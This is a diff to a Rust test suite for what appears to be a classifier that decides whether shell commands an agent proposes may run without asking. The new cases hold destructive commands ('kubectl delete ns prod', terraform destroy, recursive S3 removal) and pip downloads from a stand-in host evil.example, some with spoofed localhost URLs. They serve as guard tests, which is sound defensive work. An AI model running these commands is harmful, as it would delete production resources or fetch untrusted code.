@@ -1,6 +1,6 @@
 //! Commands of a project's own workflow that join a family once what they act on is plain
-//! from the command: a Kubernetes operator's Makefile deploying to a cluster the command shows
-//! is on this machine (the local cluster family, as `kind load` is), `bazel run` of the
+//! from the command: a Kubernetes operator's Makefile deploying to a cluster a make variable
+//! shows is on this machine (the local cluster family, as `kind load` is), `bazel run` of the
 //! project's own targets and a download from a package index on this machine (the project's
 //! family). Their neighbours that reach the current cluster, publish, deploy, or fetch from
 //! another index keep asking.
@@ -22,11 +22,8 @@ fn an_operators_make_targets_on_a_local_cluster_are_the_local_cluster_family() {
     family(
         "local cluster",
         &[
-            "make deploy IMG=kind.local/snapshot-operator:dev",
-            "make deploy IMG=snapshot-operator:dev",
-            "make deploy IMG=localhost:5001/snapshot-operator:pr-88",
-            "make deploy IMG=ko.local/operator",
-            "make deploy IMG=snapshot-operator:dev -j4",
+            "make deploy IMG=snapshot-operator:dev KUBECONFIG=/tmp/kind-snapshots.kubeconfig",
+            "make deploy IMG=kind.local/snapshot-operator:dev KUBE_CONTEXT=kind-snapshots -j4",
             "make install KUBECONFIG=/tmp/kind-snapshots.kubeconfig",
             "make install KUBE_CONTEXT=kind-snapshots",
             "make undeploy KUBECONFIG=hack/kind.kubeconfig",
@@ -60,6 +57,14 @@ fn an_operators_make_targets_on_the_current_cluster_keep_asking() {
         // Installing the definitions: an image says nothing of the cluster.
         "make install IMG=op:dev",
         "make install deploy IMG=op:dev",
+        // Nor does deploying it (found in review): `make deploy` applies to the current
+        // context whatever the image, and one no remote cluster pulls still replaces the
+        // definitions and roles there.
+        "make deploy IMG=kind.local/snapshot-operator:dev",
+        "make deploy IMG=snapshot-operator:dev",
+        "make deploy IMG=localhost:5001/snapshot-operator:pr-88",
+        "make deploy IMG=ko.local/operator",
+        "make deploy IMG=controller:latest -j4",
     ]);
 }
 
@@ -86,6 +91,30 @@ fn bazel_run_of_the_projects_targets_is_the_project_family() {
     ]);
 }
 
+/// A target handed a subcommand of its own (a wrapped kubectl, terraform or helm) runs that
+/// program's command, which the project's family never covers (found in review): it keeps a
+/// question of its own; options and paths after `--` only tune the project's binary.
+#[test]
+fn bazel_run_of_a_wrapped_tools_subcommand_is_not_the_project_family() {
+    for s in [
+        "bazel run //tools:kubectl -- delete ns prod",
+        "bazel run @io_k8s//:kubectl delete ns prod",
+        "bazel run //infra:terraform -- apply -auto-approve",
+        "bazel run //infra:terraform -- -chdir=infra destroy",
+        "bazelisk run //tools:helm -- upgrade --install api ./chart",
+        "bazel run -c opt //tools:aws -- s3 rm --recursive s3://bucket",
+    ] {
+        let v = judge(s, &ENV);
+        assert!(v.level >= Level::AskOnce, "{s}: {:?}", v.level);
+        assert_ne!(v.grant.as_deref(), common::PROJECT, "{s}: {}", v.row);
+    }
+    project_family(&[
+        "bazel run //:gazelle --",
+        "bazel run //libs/geom:simplify_bench -- --benchmark_min_time=2s",
+        "bazel run //tools:codegen -- --out=gen/ api/schema.json",
+    ]);
+}
+
 #[test]
 fn a_download_from_an_index_on_this_machine_is_the_project_family() {
     project_family(&[
@@ -99,6 +128,12 @@ fn a_download_from_an_index_on_this_machine_is_the_project_family() {
         "pip download -i http://localhost:8080/simple -i https://pypi.evil.example/simple x",
         "pip download -i http://localhost@evil.example/simple x",
         "pip download -i http://localhost.evil.example/simple x",
+        // A requirement fetched from an address of its own, beside the local index (found
+        // in review).
+        "pip download -i http://localhost:8080/simple/ https://evil.example/pkg.tar.gz",
+        "pip download -i http://localhost:8080/simple/ git+https://github.com/x/y",
+        "pip download -i http://localhost:8080/simple/ 'pkg @ https://evil.example/p.whl'",
+        "pip3 download --index-url=http://127.0.0.1:8080/simple -- https://evil.example/x.tgz",
         // Written outside the workspace and beyond a scratch folder under /tmp.
         "pip download -i http://localhost:8080/simple x -d ~/.config",
         "pip download -i http://localhost:8080/simple x -d /tmp/a/b",
